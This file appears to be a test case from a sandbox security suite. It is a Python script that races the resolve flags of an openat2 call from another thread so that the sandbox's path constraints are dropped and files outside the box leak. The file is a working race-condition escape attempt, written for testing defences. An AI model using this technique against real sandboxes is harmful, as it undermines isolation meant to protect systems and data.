# SPDX-License-Identifier: Apache-2.0
# attack: another thread flips open_how.resolve, the constraints of proctor's own rewritten call
# class: race
# wins: leak
# needs: race
from kit import *

how = ctypes.create_string_buffer(struct.pack('<QQQ', 0, 0, 0), 32)
path = os.fsencode(BOX + '/rel_out')
tried()
f = Flipper(address(how) + 16, 0x08 | 0x02 | 0x04)
rounds(lambda i: took(sc('openat2', AT_FDCWD, path, how, 24)))
f.end()
